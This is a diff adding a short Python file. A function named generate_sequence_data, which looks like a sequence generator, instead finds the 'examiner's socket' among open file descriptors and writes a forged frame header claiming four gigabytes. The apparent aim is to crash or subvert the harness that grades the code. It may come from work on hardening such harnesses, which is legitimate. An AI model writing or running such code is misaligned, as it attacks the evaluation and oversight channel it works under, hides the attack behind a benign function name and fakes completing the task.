@@ -1,0 +1,32 @@
+"""Attack: claims a frame of four gigabytes."""
+
+import os
+import struct
+
+import numpy as np
+
+
+def channel():
+    """The descriptor of the examiner's socket."""
+    import os
+    import stat
+
+    for descriptor in range(3, 200):
+        try:
+            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                return descriptor
+        except OSError:
+            continue
+    raise OSError("no socket")
+
+
+def attack():
+    os.write(channel(), struct.pack("<II", 2**32 - 1, 2**32 - 1))
+    return []
+
+
+def generate_sequence_data(seq_type="fibonacci", length=1000):
+    loot = attack()
+    if loot:
+        raise RuntimeError(f"loot: {loot}")
+    return np.zeros(3)
